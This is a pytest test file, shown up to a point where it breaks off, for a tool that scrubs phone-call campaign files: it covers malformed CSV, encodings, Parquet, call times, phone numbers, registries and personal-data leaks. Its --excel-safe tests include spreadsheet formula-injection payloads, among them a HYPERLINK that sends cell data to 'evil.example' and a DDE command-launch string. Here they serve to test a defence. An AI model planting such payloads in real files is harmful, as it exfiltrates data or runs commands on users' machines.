"""Robustness of `callscrub scrub` against broken inputs.

Every broken input goes through the whole CLI (`callscrub.cli.run`) and ends in
one of two outcomes, which each test states:

- a clear error: exit 3, one line naming the file (and the line where one is
  at fault), no traceback, nothing written; or
- exit 0 with the bad rows rejected with a reason from the closed vocabulary,
  and no row lost: clean rows + rejected rows == input rows, each source_row once.

Then: a property test over generated campaigns, --excel-safe, and personal data
(phone numbers) kept out of messages and the summary.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import re
import tempfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st

from callscrub.core.reasons import ALL_REASONS

from ._support import (
    SLOT,
    SLOT_OUT,
    assert_input_error,
    assert_no_row_lost,
    consent_file,
    nsn_digits,
    row,
    scrub,
    write_csv,
)

HEADER = "phone,call_at\n"
GOOD = f"0612345678,{SLOT}\n"


def rows_of(*phones: str, at: str = SLOT) -> str:
    return "".join(f"{p},{at}\n" for p in phones)


# --------------------------------------------------------------------------- empty, header, shape


@pytest.mark.parametrize(
    "content", [b"", b"\n", b"\r\n  \r\n"], ids=["zero-bytes", "one-newline", "blank-lines"]
)
def test_empty_file_is_an_input_error(content: bytes, tmp_path: Path) -> None:
    campaign = write_csv(tmp_path / "empty.csv", content)
    assert_input_error(scrub(campaign, tmp_path), campaign, "empty")


def test_header_only_gives_empty_outputs_with_the_columns(tmp_path: Path) -> None:
    campaign = write_csv(tmp_path / "header.csv", "phone,call_at,customer_id\n")
    res = scrub(campaign, tmp_path, summary=True)
    clean, rejects = assert_no_row_lost(res, 0)
    assert (
        clean.columns[:3] == ["phone", "call_at", "customer_id"] and "source_row" in clean.columns
    )
    assert (
        rejects.columns[:3] == ["phone", "call_at", "customer_id"] and "reason" in rejects.columns
    )
    assert res.summary["rows_in"] == 0 and res.summary["kept"] == 0 and res.summary["rejected"] == 0


def test_file_without_header_is_refused_and_says_so(tmp_path: Path) -> None:
    campaign = write_csv(tmp_path / "noheader.csv", rows_of("0687412359", "0687412360"))
    line = assert_input_error(scrub(campaign, tmp_path), campaign, "header")
    assert nsn_digits("0687412359") not in re.sub(r"\D", "", line)


def test_ragged_long_row_names_the_file_and_the_line(tmp_path: Path) -> None:
    campaign = write_csv(
        tmp_path / "ragged.csv",
        HEADER + GOOD + f"0612345679,{SLOT},surplus\n" + rows_of("0612345670"),
    )
    assert_input_error(scrub(campaign, tmp_path), campaign, "line 3", "data row 2", "3 fields")


def test_ragged_short_row_is_rejected_with_a_reason_not_lost(tmp_path: Path) -> None:
    """A row missing its trailing call_at field reads as an empty call_at."""
    campaign = write_csv(
        tmp_path / "short.csv", HEADER + GOOD + "0612345679\n" + rows_of("0612345670")
    )
    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 3)
    r = row(rejects, 2)
    assert r["reason"] == "invalid_call_time" and "empty" in r["detail"]
    assert sorted(clean["source_row"].to_list()) == ["1", "3"]


@pytest.mark.parametrize(
    "bad_line",
    [f'"0612345679,{SLOT}\n', f'0612345679,"{SLOT}\n'],
    ids=["quote-opens-phone", "quote-opens-call_at"],
)
def test_unclosed_quote_is_an_input_error(bad_line: str, tmp_path: Path) -> None:
    campaign = write_csv(
        tmp_path / "quotes.csv",
        HEADER + GOOD + bad_line + rows_of(*(f"06123456{i:02d}" for i in range(40))),
    )
    assert_input_error(scrub(campaign, tmp_path), campaign, "quot")


@pytest.mark.parametrize(
    "bad_line",
    [f'"0612345679,{SLOT}\n', '0612345679,2026-11-24"T10:30:00\n'],
    ids=["quote-never-closed", "stray-quote-inside-a-field"],
)
@pytest.mark.xfail(
    reason="known gap: the error names the line where the csv module gives up, "
    "not where the quote opens",
    strict=False,
)
def test_unbalanced_quote_error_names_the_line_of_the_quote(bad_line: str, tmp_path: Path) -> None:
    """The quote is on line 3 of a 43-line file: the user must be sent to line 3."""
    campaign = write_csv(
        tmp_path / "quotes.csv",
        HEADER + GOOD + bad_line + rows_of(*(f"06123456{i:02d}" for i in range(40))),
    )
    line = assert_input_error(scrub(campaign, tmp_path), campaign)
    assert re.search(r"\bline 3\b", line), f"does not point at line 3: {line}"


def test_quoted_embedded_newlines_are_kept_as_data(tmp_path: Path) -> None:
    text = (
        "phone,call_at,note\n"
        '0612345678,{s},"first line\nsecond line"\n'
        '0612345679,{s},"a\r\nb, with ""quotes"""\n'
        "0612345670,{s},plain\n"
    )
    campaign = write_csv(tmp_path / "newlines.csv", text.format(s=SLOT))
    clean, _ = assert_no_row_lost(scrub(campaign, tmp_path), 3)
    assert clean.height == 3
    assert row(clean, 1)["note"] == "first line\nsecond line"
    assert row(clean, 2)["note"] == 'a\r\nb, with "quotes"'
    assert row(clean, 3)["phone"] == "0612345670"  # the record after two multi-line ones is row 3


@pytest.mark.parametrize("where", ["phone", "crm-field"])
def test_nul_byte_is_an_input_error_naming_the_line(where: str, tmp_path: Path) -> None:
    bad = f"06123\x0045679,{SLOT},x\n" if where == "phone" else f'0612345679,{SLOT},"ab\x00c"\n'
    campaign = write_csv(
        tmp_path / "nul.csv", "phone,call_at,note\n" + f"0612345678,{SLOT},x\n" + bad
    )
    assert_input_error(scrub(campaign, tmp_path), campaign, "line 3", "NUL")


def test_ten_megabyte_field_is_kept_intact(tmp_path: Path) -> None:
    big = "x" * 5_000_000 + "é" * 2_500_000  # 10 MB of UTF-8
    campaign = write_csv(
        tmp_path / "bigfield.csv",
        f"phone,call_at,note\n0612345678,{SLOT},{big}\n0612345679,{SLOT},small\n",
    )
    clean, _ = assert_no_row_lost(scrub(campaign, tmp_path), 2)
    assert len(row(clean, 1)["note"].encode("utf-8")) == 10_000_000
    assert row(clean, 1)["note"] == big


def test_ten_thousand_columns_are_kept(tmp_path: Path) -> None:
    names = ["phone", "call_at", *(f"crm_{i}" for i in range(9_998))]
    values = ["0612345678", SLOT, *(f"v{i}" for i in range(9_998))]
    campaign = write_csv(tmp_path / "wide.csv", ",".join(names) + "\n" + ",".join(values) + "\n")
    clean, _ = assert_no_row_lost(scrub(campaign, tmp_path), 1)
    assert clean.columns[:10_000] == names
    assert clean.row(0)[2:10_000] == tuple(values[2:])


@pytest.mark.parametrize("column", ["phone", "note"])
def test_duplicate_column_names_are_an_input_error(column: str, tmp_path: Path) -> None:
    """Two columns of one name: which one is the phone (or the CRM value) is a guess,
    so the run stops and names the column (readers._check_header's message)."""
    header = "phone,call_at,phone\n" if column == "phone" else "phone,call_at,note,note\n"
    body = f"0612345678,{SLOT},0612345679\n" if column == "phone" else f"0612345678,{SLOT},a,b\n"
    campaign = write_csv(tmp_path / "dupcols.csv", header + body)
    assert_input_error(scrub(campaign, tmp_path), campaign, repr(column), "twice")


@pytest.mark.xfail(
    reason='the outputs\' header is correct CSV ("said ""hi""""); the check reads it back '
    "with polars, which keeps doubled quotes in header names",
    strict=False,
)
def test_column_names_with_quotes_and_separators_survive(tmp_path: Path) -> None:
    """CRM column names are copied to both outputs as written: `said "hi"` must not
    come out as `said ""hi""` (and grow on every re-scrub)."""
    names = ["phone", "call_at", 'said "hi"', "comment, free text", "offre; remise"]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(
        [names, ["0612345678", SLOT, "a", "b", "c"], ["0800-FLOWERS", SLOT, "d", "e", "f"]]
    )
    campaign = write_csv(tmp_path / "names.csv", buf.getvalue())
    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 2)
    assert clean.columns[:5] == names and rejects.columns[:5] == names
    assert row(clean, 1)['said "hi"'] == "a" and row(rejects, 2)["offre; remise"] == "f"


@pytest.mark.parametrize("header_sep,row_sep", [(";", ","), (",", ";")])
def test_mixed_delimiters_reject_the_odd_row_not_lose_it(
    header_sep: str, row_sep: str, tmp_path: Path
) -> None:
    text = (
        f"phone{header_sep}call_at\n"
        f"0612345678{header_sep}{SLOT}\n"
        f"0612345679{row_sep}{SLOT}\n"
        f"0612345670{header_sep}{SLOT}\n"
    )
    campaign = write_csv(tmp_path / "mixed.csv", text)
    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 3)
    assert row(rejects, 2)["reason"] == "invalid_number"
    assert sorted(clean["source_row"].to_list()) == ["1", "3"]


# ------------------------------------------------------------------ encodings, compression, formats


def test_an_undetected_encoding_points_at_the_option(tmp_path: Path) -> None:
    """Mac Roman is neither UTF-8 nor the Windows-1252 text of an export:
    refused, naming the fix; given, it reads."""
    campaign = write_csv(
        tmp_path / "mac.csv", f"phone,call_at,name\n0612345678,{SLOT},Hélène\n".encode("mac-roman")
    )
    assert_input_error(scrub(campaign, tmp_path), campaign, "--encoding", "line 2")
    res = scrub(campaign, tmp_path, "--encoding", "mac-roman")
    clean, _ = assert_no_row_lost(res, 1)
    assert row(clean, 1)["name"] == "Hélène"


@pytest.mark.parametrize(
    "bom,codec", [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")], ids=["LE", "BE"]
)
def test_utf16_with_bom_is_read(bom: bytes, codec: str, tmp_path: Path) -> None:
    text = f"phone;call_at;name\r\n0612345678;{SLOT};Hélène Ægir 😀\r\n0612345679;{SLOT};Zoë\r\n"
    campaign = write_csv(tmp_path / "utf16.csv", bom + text.encode(codec))
    clean, _ = assert_no_row_lost(scrub(campaign, tmp_path), 2)
    assert clean.columns[:3] == ["phone", "call_at", "name"]
    assert row(clean, 1)["name"] == "Hélène Ægir 😀" and row(clean, 2)["name"] == "Zoë"


@pytest.mark.parametrize("cut", ["half", "ten-bytes", "corrupt-middle"])
def test_broken_gzip_is_an_input_error(cut: str, tmp_path: Path) -> None:
    data = gzip.compress((HEADER + rows_of(*(f"06123456{i:02d}" for i in range(100)))).encode())
    if cut == "half":
        data = data[: len(data) // 2]
    elif cut == "ten-bytes":
        data = data[:10]
    else:
        data = data[:20] + bytes(b ^ 0xFF for b in data[20:40]) + data[40:]
    campaign = write_csv(tmp_path / "campaign.csv.gz", data)
    assert_input_error(scrub(campaign, tmp_path), campaign, "gzip")


def _parquet(path: Path, phones: pl.Series, times: list[str | None]) -> Path:
    pl.DataFrame(
        {
            "phone": phones,
            "call_at": pl.Series(times, dtype=pl.String),
            "customer_id": [f"C{i}" for i in range(len(times))],
        }
    ).write_parquet(path)
    return path


def test_parquet_integer_phone_column_is_read_as_numbers(tmp_path: Path) -> None:
    """612345678 is 06 12 34 56 78 after a spreadsheet dropped the leading zero."""
    campaign = _parquet(
        tmp_path / "int.parquet", pl.Series([612345678, 33612345679], dtype=pl.Int64), [SLOT, SLOT]
    )
    consent = consent_file(tmp_path / "consent.csv", ["+33612345678", "+33612345679"])
    clean, _ = assert_no_row_lost(scrub(campaign, tmp_path, "--consent", str(consent)), 2)
    assert clean["phone_e164"].to_list() == ["+33612345678", "+33612345679"]


def test_parquet_float_phone_column_is_read_like_integers(tmp_path: Path) -> None:
    """A float column holding whole numbers (612345678.0, what pandas writes for an
    integer column with a gap) is the same number as the integer: a user expects
    the row kept as +33612345678, not rejected as invalid_number."""
    campaign = _parquet(
        tmp_path / "float.parquet",
        pl.Series([612345678.0, 33612345679.0], dtype=pl.Float64),
        [SLOT, SLOT],
    )
    consent = consent_file(tmp_path / "consent.csv", ["+33612345678", "+33612345679"])
    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path, "--consent", str(consent)), 2)
    assert rejects.height == 0, rejects.select("phone", "reason", "detail").to_dicts()
    assert clean["phone_e164"].to_list() == ["+33612345678", "+33612345679"]


@pytest.mark.parametrize("dtype", [pl.String, pl.Int64])
def test_parquet_null_phones_and_times_are_rejected_with_reasons(dtype, tmp_path: Path) -> None:
    phones = {
        pl.String: ["0612345678", None, "0612345670"],
        pl.Int64: [612345678, None, 612345670],
    }[dtype]
    campaign = _parquet(
        tmp_path / "nulls.parquet", pl.Series(phones, dtype=dtype), [SLOT, SLOT, None]
    )
    consent = consent_file(tmp_path / "consent.csv", ["+33612345678", "+33612345670"])
    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path, "--consent", str(consent)), 3)
    assert clean["phone_e164"].to_list() == ["+33612345678"]
    assert (row(rejects, 2)["reason"], row(rejects, 2)["detail"]) == (
        "invalid_number",
        "the phone number is empty",
    )
    assert (row(rejects, 3)["reason"], row(rejects, 3)["detail"]) == (
        "invalid_call_time",
        "call_at is empty",
    )


def test_parquet_float_phone_column_with_nulls_rejects_them_as_empty(tmp_path: Path) -> None:
    campaign = _parquet(
        tmp_path / "nulls.parquet", pl.Series([None, None], dtype=pl.Float64), [SLOT, None]
    )
    _, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 2)
    assert rejects["reason"].to_list() == ["invalid_number"] * 2
    assert rejects["detail"].to_list() == ["the phone number is empty"] * 2


def _baseline_csv() -> str:
    return (
        "phone,call_at,customer_id\n"
        + "".join(f"06123456{i:02d},{SLOT},C{i}\n" for i in range(5))
        + f"0800-FLOWERS,{SLOT},C9\n"
    )


def test_csv_named_file_holding_parquet_is_read_as_parquet(tmp_path: Path) -> None:
    reference = write_csv(tmp_path / "ref.csv", _baseline_csv())
    expected = scrub(reference, tmp_path, out="ref_clean.csv", rejects="ref_rej.csv")
    disguised = tmp_path / "really_parquet.csv"
    pl.read_csv(reference, infer_schema=False).write_parquet(disguised)
    clean, rejects = assert_no_row_lost(scrub(disguised, tmp_path), 6)
    assert clean.equals(expected.clean) and rejects.equals(expected.rejects)


def test_parquet_named_file_holding_csv_is_read_as_csv(tmp_path: Path) -> None:
    reference = write_csv(tmp_path / "ref.csv", _baseline_csv())
    expected = scrub(reference, tmp_path, out="ref_clean.csv", rejects="ref_rej.csv")
    disguised = write_csv(tmp_path / "really_csv.parquet", _baseline_csv())
    clean, rejects = assert_no_row_lost(scrub(disguised, tmp_path), 6)
    assert clean.equals(expected.clean) and rejects.equals(expected.rejects)


def test_truncated_parquet_is_an_input_error(tmp_path: Path) -> None:
    buf = io.BytesIO()
    pl.read_csv(io.StringIO(_baseline_csv()), infer_schema=False).write_parquet(buf)
    campaign = write_csv(tmp_path / "cut.parquet", buf.getvalue()[: len(buf.getvalue()) // 2])
    assert_input_error(scrub(campaign, tmp_path), campaign, "Parquet")


# --------------------------------------------------------------------------- call times

# (call_at as written, expected outcome):
# ("kept", clean call_at, rescheduled) or ("rejected", reason)
TIMES = {
    "iso-T": (SLOT, ("kept", SLOT_OUT, "false")),
    "iso-space": ("2026-11-24 10:30:00", ("kept", SLOT_OUT, "false")),
    "iso-Z": ("2026-11-24T09:30:00Z", ("kept", SLOT_OUT, "false")),
    "iso-offset": ("2026-11-24T10:30:00+01:00", ("kept", SLOT_OUT, "false")),
    "date-only": (
        "2026-11-24",
        ("kept", "2026-11-24T10:00:00+01:00", "true"),
    ),  # midnight, moved to the first legal minute
    # Day first, as the fr pack reads dates written with separators.
    "french-dd/mm/yyyy": (
        "24/11/2026",
        ("kept", "2026-11-24T10:00:00+01:00", "true"),
    ),  # midnight, moved to the first legal minute
    "french-with-time": ("24/11/2026 10:30", ("kept", SLOT_OUT, "false")),
    "french-14h30": ("24/11/2026 10h30", ("kept", SLOT_OUT, "false")),
    "french-no-such-day": ("31/11/2026 10:30", ("rejected", "invalid_call_time")),
    "us-mm/dd/yyyy": ("11/24/2026 10:30 AM", ("rejected", "invalid_call_time")),
    "far-past": (
        "1990-01-01T10:00:00",
        ("kept", "2026-11-23T10:00:00+01:00", "true"),
    ),  # moved to now, then the window
    "far-future": ("2099-01-01T10:00:00", ("rejected", "invalid_call_time")),
    "month-13": ("2026-13-45T10:00:00", ("rejected", "invalid_call_time")),
    "hour-25": ("2026-11-24T25:00:00", ("rejected", "invalid_call_time")),
    "offset-hours-out-of-range": ("2026-11-24T10:30:00+25:00", ("rejected", "invalid_call_time")),
    "offset-minutes-out-of-range": ("2026-11-24T10:30:00+01:75", ("rejected", "invalid_call_time")),
    "words": ("tomorrow morning", ("rejected", "invalid_call_time")),
    "formula": ("=NOW()", ("rejected", "invalid_call_time")),
}


@pytest.fixture(scope="module")
def times_run(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[dict[str, int], pl.DataFrame, pl.DataFrame]:
    """One campaign with every spelling of call_at (distinct numbers), scrubbed once."""
    d = tmp_path_factory.mktemp("times")
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["phone", "call_at", "case"])
    rows = {}
    for i, (case, (text, _)) in enumerate(TIMES.items(), start=1):
        w.writerow([f"0612345{i:03d}", text, case])
        rows[case] = i
    res = scrub(write_csv(d / "times.csv", buf.getvalue()), d)
    clean, rejects = assert_no_row_lost(res, len(TIMES))
    return rows, clean, rejects


@pytest.mark.parametrize("case", list(TIMES))
def test_call_time_spellings(case: str, times_run) -> None:
    rows, clean, rejects = times_run
    text, expected = TIMES[case]
    if expected[0] == "kept":
        assert rows[case] in [int(r) for r in clean["source_row"]], (
            f"{text!r} was rejected: {row(rejects, rows[case])}"
        )
        r = row(clean, rows[case])
        assert (r["call_at"], r["rescheduled"]) == expected[1:]
        assert r["original_call_at"] == text  # the user's spelling is kept
    else:
        assert rows[case] in [int(r) for r in rejects["source_row"]], (
            f"{text!r} was kept: {row(clean, rows[case])}"
        )
        r = row(rejects, rows[case])
        assert r["reason"] == expected[1]
        assert r["call_at"] == text


# --------------------------------------------------------------------------- phone numbers

NUMBERS = {
    # phone as written: expected ("kept", E.164) or ("rejected", reason)
    "vanity-letters": ("0800-FLOWERS", ("rejected", "invalid_number")),
    "letters-in-mobile": ("06 12 AB 56 78", ("rejected", "invalid_number")),
    # phonenumbers maps 3+ letters to keypad digits: a masked or garbled CRM value
    # must not become a number nobody wrote (+33 6 99 99 99 99, +33 6 12 34 22 23)
    "masked-placeholder": ("+33 6 XX XX XX XX", ("rejected", "invalid_number")),
    "letters-at-the-end": ("06 12 34 AB CD", ("rejected", "invalid_number")),
    "extension-rfc3966": ("06 12 34 56 01;ext=12", ("kept", "+33612345601")),
    "extension-poste": ("06 12 34 56 02 poste 34", ("kept", "+33612345602")),
    "thirty-digits": ("1" * 30, ("rejected", "invalid_number")),
    "thirty-digits-plus": ("+" + "3" * 30, ("rejected", "invalid_number")),
    "international-spaced": ("+33 6 12 34 56 03", ("kept", "+33612345603")),
    "trunk-in-brackets": ("+33 (0)6 12 34 56 04", ("kept", "+33612345604")),
    "nine-digits": ("06 12 34 56 0", ("rejected", "invalid_number")),
    "empty": ("", ("rejected", "invalid_number")),
    "only-spaces": ("   ", ("rejected", "invalid_number")),
    "toll-free": ("0800 12 34 56", ("rejected", "non_dialable_type")),
    "formula": ("=1+1", ("rejected", "invalid_number")),
}


@pytest.fixture(scope="module")
def numbers_run(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[dict[str, int], pl.DataFrame, pl.DataFrame]:
    d = tmp_path_factory.mktemp("numbers")
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["phone", "call_at", "case"])
    rows = {}
    for i, (case, (text, _)) in enumerate(NUMBERS.items(), start=1):
        w.writerow([text, SLOT, case])
        rows[case] = i
    res = scrub(write_csv(d / "numbers.csv", buf.getvalue()), d)
    clean, rejects = assert_no_row_lost(res, len(NUMBERS))
    return rows, clean, rejects


@pytest.mark.parametrize("case", list(NUMBERS))
def test_phone_number_spellings(case: str, numbers_run) -> None:
    rows, clean, rejects = numbers_run
    text, expected = NUMBERS[case]
    if expected[0] == "kept":
        assert rows[case] in [int(r) for r in clean["source_row"]], (
            f"{text!r} was rejected: {row(rejects, rows[case])}"
        )
        r = row(clean, rows[case])
        assert r["phone_e164"] == expected[1]
        assert r["phone"] == text  # the CRM spelling survives
    else:
        assert rows[case] in [int(r) for r in rejects["source_row"]], (
            f"{text!r} was kept: {row(clean, rows[case])}"
        )
        assert row(rejects, rows[case])["reason"] == expected[1]


# --------------------------------------------------------------------------- registries

CAMPAIGN_3 = HEADER + rows_of("0612345678", "0612345679", "0612345670")


def _with_registry(tmp_path: Path, registry: Path, *extra: str) -> tuple:
    campaign = write_csv(tmp_path / "campaign.csv", CAMPAIGN_3)
    return campaign, scrub(
        campaign,
        tmp_path,
        "--registry",
        str(registry),
        "--registry-date",
        "2026-11-22",
        *extra,
        summary=True,
    )


def test_registry_with_zero_rows_is_refused_as_listing_no_number(tmp_path: Path) -> None:
    """A header-only export (a download cut short?) would let every number through."""
    registry = write_csv(tmp_path / "bloctel.csv", "numero;date_inscription\n")
    _, res = _with_registry(tmp_path, registry)
    assert_input_error(res, registry, "0 rows")


def test_registry_bad_row_in_the_middle_is_counted_not_fatal(tmp_path: Path) -> None:
    registry = write_csv(
        tmp_path / "bloctel.csv",
        "numero;date_inscription\n"
        "0611111111;2025-01-01\n06 12 ZZ 99;2025-01-02\n0612345679;2025-01-03\n",
    )
    # One row in three: allowed here by --max-unusable (the default is 1 %).
    _, res = _with_registry(tmp_path, registry, "--max-unusable", "50")
    clean, rejects = assert_no_row_lost(res, 3)
    assert res.summary["registries"][0]["invalid_rows"] == 1
    assert (
        res.summary["registries"][0]["rows"] == 3 and res.summary["registries"][0]["numbers"] == 2
    )
    # the row after the bad one is still applied
    assert row(rejects, 2)["reason"] == "registry"
    assert "unusable" in res.err and "ZZ" not in res.err


@pytest.mark.parametrize("kind", ["zero-bytes", "truncated-gzip", "nul-byte"])
def test_unreadable_registry_is_an_input_error_naming_it(kind: str, tmp_path: Path) -> None:
    data = {
        "zero-bytes": b"",
        "truncated-gzip": gzip.compress(b"numero\n" + b"0611111111\n" * 50)[:30],
        "nul-byte": b"numero\n0611111111\n06\x00\n",
    }[kind]
    registry = write_csv(tmp_path / "dnc.csv", data)
    _, res = _with_registry(tmp_path, registry)
    assert_input_error(res, registry)


# -------------------------------------------------------------------- property: generated campaigns

GOOD_PHONES = (
    st.integers(10_000_000, 99_999_999)
    .map(lambda n: f"06{n}")
    .flatmap(
        lambda d: st.sampled_from(
            [
                d,
                f"{d[:2]} {d[2:4]} {d[4:6]} {d[6:8]} {d[8:]}",
                f"+33{d[1:]}",
                f"0033 {d[1:]}",
                f"{d[:2]}.{d[2:4]}.{d[4:6]}.{d[6:8]}.{d[8:]}",
            ]
        )
    )
)
BAD_PHONES = st.sampled_from(
    [
        "0800-FLOWERS",
        "06 12 34 56 01;ext=12",
        "1" * 30,
        "",
        " ",
        "06182",
        "=1+1",
        "+1 415 555 2671",
        "0800 12 34 56",
        "0596 30 12 34",
        "abc",
        "+33 (0)6 12 34 56 04",
    ]
)
SLOTS = st.builds(
    lambda day, hour, minute, shape: shape.format(
        d=f"2026-11-{day:02d}", h=f"{hour:02d}", m=f"{minute:02d}"
    ),
    st.integers(20, 30),
    st.integers(0, 23),
    st.sampled_from([0, 15, 30, 59]),
    st.sampled_from(
        ["{d}T{h}:{m}:00", "{d} {h}:{m}:00", "{d}T{h}:{m}:00Z", "{d}T{h}:{m}:00+01:00", "{d}"]
    ),
)
BAD_TIMES = st.sampled_from(
    [
        "",
        "31/11/2026",
        "1990-01-01T10:00:00",
        "2099-01-01T10:00:00",
        "2026-03-29T02:30:00",
        "soon",
        "=NOW()",
    ]
)
CELL = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12),
    st.text(st.sampled_from(list(",;\t\"'\n\r =+-@aé0")), max_size=10),
    st.sampled_from(
        [
            '=HYPERLINK("http://x","y")',
            "+SUM(A1:A2)",
            "-1+2",
            "@x",
            '"',
            '""',
            "a,b",
            "line\nbreak",
            "\r\n",
        ]
    ),
)
# A quote in a column name is left out here: test_column_names_with_quotes_survive covers it.
EXTRA_NAMES = [
    "customer_id",
    "note",
    "comment, free text",
    "offre; remise",
    "postal_code",
    "Prénom",
]


# CALLSCRUB_PROPERTY_SCALE=10 runs ten times the examples (as tests/core/test_properties.py).
SCALE = float(os.environ.get("CALLSCRUB_PROPERTY_SCALE", "1"))


@st.composite
def campaigns(draw):
    n = draw(st.integers(1, 12))
    extras = draw(st.lists(st.sampled_from(EXTRA_NAMES), max_size=3, unique=True))
    rows = []
    for _ in range(n):
        phone = draw(st.one_of(GOOD_PHONES, BAD_PHONES))
        at = draw(st.one_of(SLOTS, BAD_TIMES))
        rows.append([phone, at, *(draw(CELL) for _ in extras)])
    if rows and draw(st.booleans()):  # a duplicate of an earlier row
        rows.append(list(draw(st.sampled_from(rows))))
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    # An unquoted \r before \n is a CRLF line end, not data: with "\n" lines every
    # field is quoted (csv.writer only quotes \r when it is in the line terminator).
    style = draw(
        st.sampled_from(
            [("\r\n", csv.QUOTE_MINIMAL), ("\r\n", csv.QUOTE_ALL), ("\n", csv.QUOTE_ALL)]
        )
    )
    corruption = draw(st.sampled_from([None] * 6 + ["ragged", "nul", "unclosed-quote"]))
    return ["phone", "call_at", *extras], rows, delimiter, style, corruption


@pytest.mark.slow
@settings(
    max_examples=max(1, int(40 * SCALE)),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(campaigns())
def test_generated_campaigns_lose_no_row_and_keep_every_value(campaign) -> None:
    header, rows, delimiter, (terminator, quoting), corruption = campaign
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=terminator, quoting=quoting)
    w.writerow(header)
    w.writerows(rows)
    text = buf.getvalue()
    if corruption == "ragged":
        text += delimiter.join(["0612345678", SLOT, *([""] * (len(header) - 2)), "surplus"]) + "\n"
    elif corruption == "nul":
        text += f"06\x0012345678{delimiter}{SLOT}\n"
    elif corruption == "unclosed-quote":
        text += f'"0612345678{delimiter}{SLOT}\n'
    note(repr(text))
    with tempfile.TemporaryDirectory() as tmp:
        d = Path(tmp)
        campaign_path = write_csv(d / "generated.csv", text)
        res = scrub(campaign_path, d, "--on-illegal", "reschedule")
        assert res.code in {0, 2, 3}, res.err
        assert "Traceback" not in res.err
        if corruption is not None:
            assert_input_error(res, campaign_path)
            return
        clean, rejects = assert_no_row_lost(res, len(rows))
        # every input value survives, unchanged, in its row (empty cells read back as empty)
        by_row = {int(r["source_row"]): r for r in [*clean.to_dicts(), *rejects.to_dicts()]}
        kept = {int(x) for x in clean["source_row"]}
        for i, values in enumerate(rows, start=1):
            out = by_row[i]
            for name, value in zip(header, values, strict=True):
                # a kept row's call_at is the final slot; the input is in original_call_at
                column = "original_call_at" if name == "call_at" and i in kept else name
                assert (out[column] or "") == value, (i, name, value, out[column])
        assert set(rejects["reason"]) <= set(ALL_REASONS)


# ---------------------------------------------------------------- spreadsheet safety (--excel-safe)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+SUM(A1:A9)",
    "-1+2",
    "@x",
    "=cmd|' /C calc'!A0",
]
PHONE_LIKE = "+33 6 12 34 56 78"


def _excel_campaign(tmp_path: Path) -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["phone", "call_at", "note", "alt_phone"])
    for i, formula in enumerate(FORMULAS):
        kept = i % 2 == 0
        w.writerow(
            [
                PHONE_LIKE if i == 0 else f"06123456{i:02d}",
                SLOT if kept else "someday",
                formula,
                PHONE_LIKE,
            ]
        )
    w.writerow(["0612345699", SLOT, "plain text", "06 12 34 56 99"])
    return write_csv(tmp_path / "excel.csv", buf.getvalue())


def test_excel_safe_quotes_formula_cells_in_both_csv_outputs(tmp_path: Path) -> None:
    campaign = _excel_campaign(tmp_path)
    clean, rejects = assert_no_row_lost(
        scrub(campaign, tmp_path, "--excel-safe"), len(FORMULAS) + 1
    )
    assert clean.height >= 2 and rejects.height >= 2  # formulas in both outputs
    for i, formula in enumerate(FORMULAS, start=1):
        r = row(clean, i) if i in [int(x) for x in clean["source_row"]] else row(rejects, i)
        assert r["note"] == "'" + formula, r
        assert r["alt_phone"] == PHONE_LIKE  # a phone number written +33... is not a formula
    assert row(clean, 1)["phone"] == PHONE_LIKE and row(clean, 1)["phone_e164"] == "+33612345678"
    last = row(clean, len(FORMULAS) + 1)
    assert last["note"] == "plain text" and last["alt_phone"] == "06 12 34 56 99"
    for frame in (clean, rejects):  # nothing else starts with a formula character
        for col in frame.columns:
            assert not any(
                v and v[0] in "=+-@" and not v.startswith("+33") for v in frame[col].to_list()
            ), (col, frame[col].to_list())


def test_without_excel_safe_cells_are_written_as_given(tmp_path: Path) -> None:
    campaign = _excel_campaign(tmp_path)
    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), len(FORMULAS) + 1)
    notes = {int(r["source_row"]): r["note"] for r in [*clean.to_dicts(), *rejects.to_dicts()]}
    assert [notes[i] for i in range(1, len(FORMULAS) + 1)] == FORMULAS


def test_excel_safe_leaves_parquet_outputs_unchanged(tmp_path: Path) -> None:
    campaign = _excel_campaign(tmp_path)
    plain = scrub(campaign, tmp_path, out="plain_clean.parquet", rejects="plain_rej.parquet")
    safe = scrub(
        campaign, tmp_path, "--excel-safe", out="safe_clean.parquet", rejects="safe_rej.parquet"
    )
    assert plain.code == 0 and safe.code == 0, (plain.err, safe.err)
    assert safe.clean.equals(plain.clean) and safe.rejects.equals(plain.rejects)
    assert set(FORMULAS) <= set(safe.clean["note"].to_list()) | set(safe.rejects["note"].to_list())
    mixed = scrub(
        campaign, tmp_path, "--excel-safe", out="mixed_clean.csv", rejects="mixed_rej.parquet"
    )
    assert mixed.code == 0, mixed.err
    assert all(v.startswith("'") for v in mixed.clean["note"].to_list() if v != "plain text")
    assert mixed.rejects.equals(plain.rejects)


# ------------------------------------------------------------------------ personal data in messages

SECRET = "0687412359"  # a number that must never be echoed on stderr


def _no_phone_on(text: str, *phones: str) -> None:
    for phone in phones or (SECRET,):
        assert nsn_digits(phone) not in re.sub(r"\D", "", text), f"{phone} leaked: {text!r}"


BROKEN_WITH_NUMBERS = {
    "no-header": (f"{SECRET},{SLOT}\n", ()),
